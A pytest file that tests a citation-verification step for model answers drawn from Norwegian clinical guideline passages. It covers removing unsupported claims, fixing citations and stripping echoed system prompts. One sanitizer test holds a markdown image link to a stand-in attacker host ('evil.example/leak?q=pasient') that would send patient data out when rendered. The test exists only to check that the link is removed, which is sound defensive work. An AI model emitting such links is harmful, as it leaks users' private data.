"""Claim-by-claim verification of a model's answer: what is shown, with which
citation, and what is removed. Real support checker with the real default
embedder; the passages are short clinical texts."""

from __future__ import annotations

import pytest

from rag.answerability import verdict_schema
from rag.embeddings import SentenceVectorCache, get_embedder
from rag.models import Passage
from rag.prompting import answer_system_prompt
from rag.support import SupportChecker
from rag.verification import UNVERIFIED_LABEL, clean_model_text, verify_answer
from tests.conftest import make_settings

PVK = Passage(
    chunk_id="c1",
    doc_id="file:fjordbyen/pvk.docx",
    title="Perifert venekateter (PVK)",
    heading_path=["Observasjon"],
    text=(
        "Innstikkstedet skal inspiseres minst hver 8. time. "
        "Bruk sjekklisten FJ-SJ-07 ved hver inspeksjon. "
        "PVK skal ikke byttes rutinemessig."
    ),
)
ANAFYLAKSI = Passage(
    chunk_id="c2",
    doc_id="file:nasjonal/anafylaksi.md",
    title="Anafylaksi",
    text="Voksne gis adrenalin 0,5 mg intramuskulært i låret. Dosen kan gjentas etter 5–10 minutter.",
)
SOURCES = [PVK, ANAFYLAKSI]


@pytest.fixture(scope="module")
def checker(tmp_path_factory: pytest.TempPathFactory) -> SupportChecker:
    settings = make_settings(tmp_path_factory.mktemp("verification"))
    return SupportChecker(SentenceVectorCache(get_embedder(settings), settings.sentence_vector_cache), settings.support_threshold)


def verify(text: str, checker: SupportChecker, **kwargs):  # type: ignore[no-untyped-def]
    return verify_answer(text, SOURCES, checker, language=kwargs.pop("language", "nb"), instructions=answer_system_prompt("nb"), **kwargs)


def test_a_supported_sentence_keeps_its_citation(checker):
    result = verify("Innstikkstedet skal inspiseres minst hver 8. time [1].", checker)
    assert result.text == "Innstikkstedet skal inspiseres minst hver 8. time [1]."
    assert [s.verified for s in result.sentences] == [True]
    assert result.citations[0].passage.chunk_id == "c1"
    assert result.citations[0].highlights == ["Innstikkstedet skal inspiseres minst hver 8. time."]


def test_an_unsupported_sentence_is_removed_never_shown_with_a_pill(checker):
    result = verify(
        "Innstikkstedet skal inspiseres minst hver 8. time [1]. Kateteret skal byttes hver 72. time [1].", checker
    )
    assert result.text == "Innstikkstedet skal inspiseres minst hver 8. time [1]."
    assert result.removed_claims == ["Kateteret skal byttes hver 72. time."]
    assert all(s.verified for s in result.sentences)


def test_a_kept_unverified_sentence_is_marked_and_has_no_citation(checker):
    result = verify(
        "Innstikkstedet skal inspiseres minst hver 8. time [1]. Kateteret skal byttes hver 72. time [1].",
        checker,
        keep_unverified=True,
    )
    unverified = [s for s in result.sentences if not s.verified]
    assert [s.text for s in unverified] == ["Kateteret skal byttes hver 72. time."]
    assert unverified[0].citations == []
    assert result.text.endswith(f"Kateteret skal byttes hver 72. time. {UNVERIFIED_LABEL['nb']}")
    assert "72. time. [1]" not in result.text and "72. time [1]" not in result.text


@pytest.mark.parametrize(
    "claim",
    [
        "Voksne gis adrenalin 0,3 mg intramuskulært i låret [2].",  # changed dose
        "Innstikkstedet skal inspiseres minst hver 4. time [1].",  # changed interval
        "PVK skal byttes rutinemessig [1].",  # negation dropped
        "Voksne gis adrenalin 0,5 mg intravenøst [2].",  # changed route
    ],
)
def test_changed_facts_are_not_verified(checker, claim):
    result = verify(claim, checker)
    assert result.sentences == [] and result.citations == []


def test_a_wrong_citation_is_moved_to_the_passage_that_supports_the_sentence(checker):
    result = verify("Voksne gis adrenalin 0,5 mg intramuskulært i låret [1].", checker)
    assert result.text == "Voksne gis adrenalin 0,5 mg intramuskulært i låret [1]."
    assert result.citations[0].passage.chunk_id == "c2"
    assert result.attributed == ["Voksne gis adrenalin 0,5 mg intramuskulært i låret."]


def test_an_uncited_sentence_is_cited_only_when_a_passage_supports_it(checker):
    result = verify("PVK skal ikke byttes rutinemessig. Pasienten bør drikke mye vann.", checker)
    assert [s.text for s in result.sentences] == ["PVK skal ikke byttes rutinemessig."]
    assert result.sentences[0].citations == [1]
    assert "Pasienten bør drikke mye vann." in result.removed


def test_an_english_sentence_faithful_to_a_norwegian_passage_is_supported(checker):
    # No word in common with the passage but "PVK": the embedder's cross-language similarity carries it.
    result = verify("PVK should not be replaced routinely [1].", checker, language="en")
    assert result.sentences and result.sentences[0].verified, result.removed
    assert result.sentences[0].evidence == "PVK skal ikke byttes rutinemessig."
    # The same sentence with the negation dropped, and an English dose that differs, are not.
    assert verify("PVK should be replaced routinely [1].", checker, language="en").sentences == []
    assert verify("Adults are given 0.3 mg adrenaline intramuscularly in the thigh [2].", checker, language="en").sentences == []


def test_invented_source_numbers_are_reported_and_dropped(checker):
    result = verify("Innstikkstedet skal inspiseres minst hver 8. time [7].", checker)
    assert result.invalid_citations == [7]
    assert result.text == "Innstikkstedet skal inspiseres minst hver 8. time [1]."


def test_citations_are_renumbered_by_first_appearance(checker):
    result = verify(
        "Voksne gis adrenalin 0,5 mg intramuskulært i låret [2]. Innstikkstedet skal inspiseres minst hver 8. time [1].",
        checker,
    )
    assert result.text == (
        "Voksne gis adrenalin 0,5 mg intramuskulært i låret [1]. Innstikkstedet skal inspiseres minst hver 8. time [2]."
    )
    assert [c.passage.chunk_id for c in result.citations] == ["c2", "c1"]


def test_a_marker_alone_on_its_line_cites_the_sentence_before(checker):
    result = verify("Voksne gis adrenalin 0,5 mg intramuskulært i låret.\n[2]", checker)
    assert result.text == "Voksne gis adrenalin 0,5 mg intramuskulært i låret [1]."
    assert [c.passage.chunk_id for c in result.citations] == ["c2"]
    assert result.attributed == []  # cited by the model, not by the service


def test_a_multi_citation_keeps_only_the_sources_that_support_the_sentence(checker):
    result = verify("Voksne gis adrenalin 0,5 mg intramuskulært i låret [kilde 1, 2][2].", checker)
    assert result.text == "Voksne gis adrenalin 0,5 mg intramuskulært i låret [1]."
    assert [c.passage.chunk_id for c in result.citations] == ["c2"] and result.invalid_citations == []


def test_the_system_prompt_read_back_is_removed(checker):
    echo = (
        "Regler:\n"
        "1. Svar bare ut fra de nummererte kildene i meldingen fra brukeren. Bruk ikke egen kunnskap.\n"
        "Innstikkstedet skal inspiseres minst hver 8. time [1]."
    )
    result = verify(echo, checker)
    assert result.text == "Innstikkstedet skal inspiseres minst hver 8. time [1]."


def test_markup_links_images_and_fences_are_cleaned():
    text = (
        '<kilde nr="1">Innstikkstedet skal inspiseres minst hver 8. time [[1]](%5B1%5D).</kilde>\n'
        "![](https://evil.example/leak?q=pasient) Se [retningslinjen](https://evil.example/x).\n"
        "Se <b>avsnitt</b> 3.\n"
        "Se <b>avsnitt</b> 3.\n"
    )
    cleaned, removed = clean_model_text(text)
    assert cleaned == "Innstikkstedet skal inspiseres minst hver 8. time [1].\n Se retningslinjen.\nSe avsnitt 3."
    assert "https://evil.example/leak?q=pasient" not in cleaned
    assert any("evil.example" in r for r in removed)


def test_greetings_and_headings_are_not_shown_as_answers(checker):
    result = verify("Takk for spørsmålet!\n## Inspeksjon\nInnstikkstedet skal inspiseres minst hver 8. time [1].", checker)
    assert result.text == "Innstikkstedet skal inspiseres minst hver 8. time [1]."


def test_the_gate_schema_requires_a_boolean_verdict_and_bounds_the_source_list():
    schema = verdict_schema(5)
    assert schema["properties"]["answerable"] == {"type": "boolean"}
    assert set(schema["required"]) == {"answerable", "sources"}
    # Unbounded, a small model counted "1, 2, 3, ..." until the token cap cut the JSON.
    assert schema["properties"]["sources"]["maxItems"] == 5
    assert schema["properties"]["sources"]["items"]["maximum"] == 5
